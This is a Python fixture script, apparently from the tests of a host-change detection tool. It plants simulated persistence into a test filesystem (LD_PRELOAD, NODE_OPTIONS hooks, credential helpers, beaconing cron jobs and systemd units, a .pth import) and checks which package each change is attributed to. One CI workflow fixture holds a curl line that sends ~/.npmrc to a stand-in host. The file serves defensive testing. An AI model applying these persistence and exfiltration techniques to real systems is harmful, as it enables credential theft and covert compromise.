@c("vscode-terminal-env", "persistence", HOME + "/.config/Code/User/settings.json", "terminal.integrated.env.linux")
def _(r): write(r, HOME + "/.config/Code/User/settings.json",
                '{\n  // editor\n  "editor.fontSize": 14,\n  "files.autoSave": "afterDelay",\n'
                '  "terminal.integrated.env.linux": {"NODE_OPTIONS": "--require /home/dev/.cache/.n.js"},\n}\n')


@c("aws-credential-process", "persistence", HOME + "/.aws/config", "credential_process")
def _(r): append(r, HOME + "/.aws/config", "credential_process = /home/dev/.local/bin/awscreds\n")


@c("kubeconfig-exec", "persistence", HOME + "/.kube/config", "exec")
def _(r): write(r, HOME + "/.kube/config", read(r, HOME + "/.kube/config").replace(
    "    token: fixture-not-a-token\n",
    "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /home/dev/.local/bin/kauth\n"))


@c("docker-cred-helper", "persistence", HOME + "/.docker/config.json", "credHelpers")
def _(r): edit_json(r, HOME + "/.docker/config.json", lambda d: d.__setitem__("credHelpers", {"registry.example.invalid": "sysmon"}))


@c("environment-d", "persistence", HOME + "/.config/environment.d/50-preload.conf", "LD_PRELOAD")
def _(r): write(r, HOME + "/.config/environment.d/50-preload.conf", "LD_PRELOAD=/home/dev/.local/lib/libhook.so\n")


@c("ci-workflow", "self-propagation", PROJECT + "/.github/workflows/release.yml", "jobs")
def _(r): write(r, PROJECT + "/.github/workflows/release.yml",
                "on: push\njobs:\n  leak:\n    runs-on: ubuntu-latest\n    steps:\n"
                "      - run: curl -d @$HOME/.npmrc https://collect.example.invalid\n")


@c("direnv", "persistence", PROJECT + "/.envrc", "agent.sh")
def _(r): write(r, PROJECT + "/.envrc", f"{PAYLOAD}\n")


@c("staging-dir", "execution", HOME + "/.sysmon")
def _(r): write(r, HOME + "/.sysmon/payload.bin", "\0fixture payload\0")


@c("deleted-exe-process", "execution", "proc:/tmp/.x/agent", "deleted")
def _(r): proc_process(r, 4242, "/tmp/.x/agent (deleted)", 1, "agent", sockets=[2002])


@c("listening-socket", "c2", "socket:listen tcp 0.0.0.0:4444", "/tmp/.x/agent")
def _(r): append(r, "/proc/net/tcp", tcp_row(1, "00000000:115C", "00000000:0000", "0A", 2002))


# ---- noise: same meaning, different bytes or times ------------------------------------------

def apply_noise(root):
    later = time.time() + 3600
    for host_path in (HOME + "/.bashrc", "/etc/crontab", HOME + "/.gitconfig", "/etc/passwd",
                      HOME + "/.claude/settings.json", "/usr/lib/systemd/system/ssh.service",
                      PROJECT + "/.git/config", "/etc/sudoers", "/usr/bin/git"):
        os.utime(p(root, host_path), (later, later))
    # identical rewrites (new inode, same bytes)
    for host_path in ("/etc/crontab", HOME + "/.ssh/authorized_keys", "/etc/pam.d/common-auth",
                      HOME + "/.config/pip/pip.conf", "/var/lib/dpkg/status"):
        text = read(root, host_path)
        os.unlink(p(root, host_path))
        write(root, host_path, text, 0o600 if "authorized_keys" in host_path else 0o644)
    # reformatted JSON, reordered keys, a key nobody runs
    edit_json(root, HOME + "/.cursor/mcp.json", lambda d: None, indent=4)
    edit_json(root, HOME + "/.claude.json", lambda d: d.__setitem__("numStartups", 13), indent=None)
    doc = json.loads(read(root, HOME + "/.claude/settings.json"))
    write(root, HOME + "/.claude/settings.json", json.dumps(dict(reversed(list(doc.items()))), indent=3))
    # comments and whitespace
    append(root, HOME + "/.config/Code/User/settings.json", "// trailing comment\n")
    write(root, HOME + "/.bashrc", read(root, HOME + "/.bashrc").replace("alias ll='ls -alF'", "  alias   ll='ls -alF'   "))
    append(root, "/usr/lib/systemd/system/ssh.service", "# local note\n")
    append(root, HOME + "/.npmrc", "; comment\n")
    append(root, "/etc/sudoers", "# a comment\n")
    # git keys that run nothing
    write(root, HOME + "/.gitconfig", read(root, HOME + "/.gitconfig").replace(
        "dev@example.invalid", "dev@new.example.invalid"))
    # the file list of an unchanged package touched
    os.utime(p(root, "/usr/lib/node_modules/npm/package.json"), (later, later))


# ---- attribution -----------------------------------------------------------------------------
# Each expectation: where diff reports the change (exact path or pseudo location), and the
# attribution one of its findings must carry (ecosystem, package, confidence, and candidates
# that must all be named), or package None and confidence None: nothing may be attributed.

def a(aid, where, ecosystem=None, package=None, confidence=None, version=None, candidates=()):
    return {"id": aid, "where": where, "ecosystem": ecosystem, "package": package,
            "confidence": confidence, "version": version, "candidates": list(candidates)}


def log_time(t):
    return time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(t))


def set_mtime(root, host_path, t):
    os.utime(p(root, host_path), (t, t), follow_symlinks=False)


def apply_attribution(root):
    """Applies the scenario to a base root; returns the expectations."""
    t0 = (int(time.time()) - 86400) // 60 * 60  # yesterday: no file written now falls in a run
    exp = []
    # dpkg.log: evil-svc's run (its postinst wrote a unit no *.list names), benign-lib's later.
    append(root, "/var/log/dpkg.log", "".join(f"{log_time(t0 + dt)} {line}\n" for dt, line in [
        (100, "startup archives unpack"), (100, "install evil-svc:amd64 <none> 0.9-1"),
        (101, "status unpacked evil-svc:amd64 0.9-1"), (102, "startup packages configure"),
        (102, "configure evil-svc:amd64 0.9-1 <none>"), (102, "status half-configured evil-svc:amd64 0.9-1"),
        (104, "status installed evil-svc:amd64 0.9-1"), (104, "trigproc man-db:amd64 2.11.2-2 <none>"),
        (300, "install benign-lib:amd64 <none> 1.0"), (302, "status installed benign-lib:amd64 1.0")]))
    write(root, "/etc/systemd/system/evil-svc.service",
          "[Service]\nExecStart=/usr/sbin/evil-svcd --beacon 192.0.2.80\n[Install]\nWantedBy=multi-user.target\n")
    set_mtime(root, "/etc/systemd/system/evil-svc.service", t0 + 103)
    exp.append(a("dpkg-log-window", "/etc/systemd/system/evil-svc.service", "deb", "evil-svc", "medium", "0.9-1"))
    # Between the two runs: explained by neither.
    write(root, "/etc/cron.d/backup", "0 1 * * * root /usr/local/bin/backup\n")
    set_mtime(root, "/etc/cron.d/backup", t0 + 200)
    exp.append(a("between-runs", "/etc/cron.d/backup"))
    # A file a dpkg *.list names (and a decoy list naming a longer path).
    write(root, "/var/lib/dpkg/info/evil-deb.list", "/.\n/etc\n/etc/cron.d\n/etc/cron.d/evil-deb\n")
    write(root, "/var/lib/dpkg/info/decoy.list", "/.\n/etc/cron.d/evil-deb-old\n")
    append(root, "/var/lib/dpkg/status", "\nPackage: evil-deb\nStatus: install ok installed\n"
           "Architecture: amd64\nVersion: 2.0-1\n")
    write(root, "/etc/cron.d/evil-deb", "*/5 * * * * root /usr/bin/true 198.51.100.9\n")
    exp.append(a("dpkg-list-owned", "/etc/cron.d/evil-deb", "deb", "evil-deb", "high", "2.0-1"))
    # A packaged file edited afterwards by someone else: the package did not make this change.
    append(root, "/etc/cron.d/e2scrub_all", "* * * * * root /usr/bin/true 198.51.100.10\n")
    exp.append(a("packaged-file-edited", "/etc/cron.d/e2scrub_all"))
    # apt history.log only (dpkg.log rotated away): low, naming what was asked for.
    append(root, "/var/log/apt/history.log", f"\nStart-Date: {log_time(t0 + 500).replace(' ', '  ')}\n"
           "Commandline: apt-get install evil-apt\n"
           "Install: evil-apt:amd64 (3.1), libevil0:amd64 (3.1, automatic)\n"
           f"End-Date: {log_time(t0 + 510).replace(' ', '  ')}\n")
    write(root, "/etc/profile.d/evil-apt.sh", "export PROMPT_COMMAND='/usr/bin/true 203.0.113.12'\n")
    set_mtime(root, "/etc/profile.d/evil-apt.sh", t0 + 505)
    exp.append(a("apt-history-window", "/etc/profile.d/evil-apt.sh", "deb", "evil-apt", "low", "3.1"))
    # npm debug logs: one install whose only script was evil-npm's; one with two scripts.
    def npm_log(start, end, argv, runs):
        name = time.strftime("%Y-%m-%dT%H_%M_%S_000Z-debug-0.log", time.gmtime(start))
        lines = ["0 verbose cli /usr/bin/node /usr/bin/npm", "1 info using npm@10.8.2",
                 "2 verbose argv " + " ".join(f'"{x}"' for x in argv)]
        for i, (spec, event) in enumerate(runs):
            lines.append(f"{3 + 2 * i} info run {spec} {event} node_modules/{spec.rsplit('@', 1)[0]} node install.js")
            lines.append(f"{4 + 2 * i} info run {spec} {event} {{ code: 0, signal: null }}")
        lines.append(f"{3 + 2 * len(runs)} verbose exit 0")
        path = f"{HOME}/.npm/_logs/{name}"
        write(root, path, "\n".join(lines) + "\n")
        set_mtime(root, path, end)
    npm_log(t0 + 700, t0 + 710, ["install", "-g", "evil-npm"], [("evil-npm@1.0.0", "postinstall")])
    append(root, HOME + "/.bashrc", "export NODE_OPTIONS='--require /home/dev/.cache/.e.js'\n")
    set_mtime(root, HOME + "/.bashrc", t0 + 705)
    exp.append(a("npm-log-window", HOME + "/.bashrc", "npm", "evil-npm", "medium", "1.0.0"))
    npm_log(t0 + 900, t0 + 910, ["ci"], [("left-pad-ng@1.0.0", "postinstall"), ("@acme/build-hooks@2.0.0", "install")])
    write(root, HOME + "/.config/autostart/sync.desktop",
          "[Desktop Entry]\nType=Application\nName=Sync\nExec=/home/dev/.local/bin/sync-agent\n")
    set_mtime(root, HOME + "/.config/autostart/sync.desktop", t0 + 905)
    exp.append(a("npm-log-two-scripts", HOME + "/.config/autostart/sync.desktop", "npm", None, "low",
                 candidates=["left-pad-ng@1.0.0", "@acme/build-hooks@2.0.0"]))
    npm_log(t0 + 1100, t0 + 1110, ["pack", "x"], [])  # not an install: never a window
    # Content: a unit that runs code inside a (scoped) npm package; a cron job inside a Python
    # package; a path that only looks like a package directory.
    write_json(root, HOME + "/.npm-global/lib/node_modules/@evil/telemetry/package.json",
               {"name": "@evil/telemetry", "version": "2.0.1"})
    write(root, HOME + "/.config/systemd/user/telemetry.service",
          "[Service]\nExecStart=/usr/bin/node /home/dev/.npm-global/lib/node_modules/@evil/telemetry/dist/agent.js\n"
          "[Install]\nWantedBy=default.target\n")
    exp.append(a("unit-runs-npm-package", HOME + "/.config/systemd/user/telemetry.service", "npm",
                 "@evil/telemetry", "medium", "2.0.1"))
    write(root, "/usr/local/lib/python3.11/dist-packages/evilcron-0.2.dist-info/METADATA",
          "Metadata-Version: 2.1\nName: evilcron\nVersion: 0.2\n")
    append(root, f"/var/spool/cron/crontabs/{USER}",
           "*/5 * * * * /usr/bin/python3 /usr/local/lib/python3.11/dist-packages/evilcron/beacon.py\n")
    exp.append(a("cron-runs-python-package", f"/var/spool/cron/crontabs/{USER}", "pypi", "evilcron", "medium", "0.2"))
    write(root, "/etc/systemd/system/lookalike.service",
          "[Service]\nExecStart=/opt/mynode_modules/tool/run --site-packages-dir /srv/site-packages\n")
    exp.append(a("package-lookalike-path", "/etc/systemd/system/lookalike.service"))
    # Files a dist-info RECORD lists with their hashes: a .pth and a console script.
    site = h_site(root)
    pth, script = "import evil_pth_boot\n", "#!/bin/sh\nexec /usr/bin/true 203.0.113.14\n"
    write(root, site + "/evil_pth-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil-pth\nVersion: 1.0\n")
    write(root, site + "/evil_pth-1.0.dist-info/RECORD",
          record_line("evil_pth_init.pth", pth) + record_line("../../../bin/evil-sync", script)
          + "evil_pth-1.0.dist-info/RECORD,,\n")
    write(root, site + "/evil_pth_init.pth", pth)
    write(root, HOME + "/.local/bin/evil-sync", script, 0o755)
    exp.append(a("record-owned-pth", site + "/evil_pth_init.pth", "pypi", "evil_pth", "high", "1.0"))
    exp.append(a("record-owned-script", HOME + "/.local/bin/evil-sync", "pypi", "evil_pth", "high", "1.0"))
    # A RECORD-listed file changed after its install: its hash no longer matches.
    append(root, site + "/_virtualenv.pth", "import evil_late\n")
    exp.append(a("record-hash-mismatch", site + "/_virtualenv.pth"))
    # A daemon left by a postinstall: its environment still carries npm's markers.
    proc_process(root, 5151, "/home/dev/.cache/.evil/beacon", 1, "beacon", sockets=[5152],
                 environ={"PATH": "/usr/bin:/bin", "npm_lifecycle_event": "postinstall",
                          "npm_package_name": "fixture-beacon", "npm_package_version": "0.0.1",
                          "npm_command": "install"})
    append(root, "/proc/net/tcp", tcp_row(3, "00000000:15B3", "00000000:0000", "0A", 5152))
    exp.append(a("process-markers", "proc:/home/dev/.cache/.evil/beacon", "npm", "fixture-beacon", "high", "0.0.1"))
    exp.append(a("socket-of-marked-process", "socket:listen tcp 0.0.0.0:5555", "npm", "fixture-beacon", "high"))
    # A process started by `npm run dev` is not an install.
    proc_process(root, 5160, "/usr/bin/node", 1, "node",
                 environ={"npm_lifecycle_event": "dev", "npm_package_name": "app", "npm_command": "run-script"})
    exp.append(a("npm-run-is-not-install", "proc:/usr/bin/node"))
    return exp


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in ("base", "changes", "noise", "attribution"):
        print(__doc__, file=sys.stderr)
        return 2
    cmd, root = sys.argv[1], sys.argv[2]
    if cmd == "base":
        build_base(root)
    elif cmd == "changes":
        for ch in CHANGES:
            ch["apply"](root)
        print(json.dumps([{k: v for k, v in ch.items() if k != "apply"} for ch in CHANGES], indent=1))
    elif cmd == "attribution":
        print(json.dumps(apply_attribution(root), indent=1))
    else:
        apply_noise(root)
    return 0


if __name__ == "__main__":
    sys.exit(main())
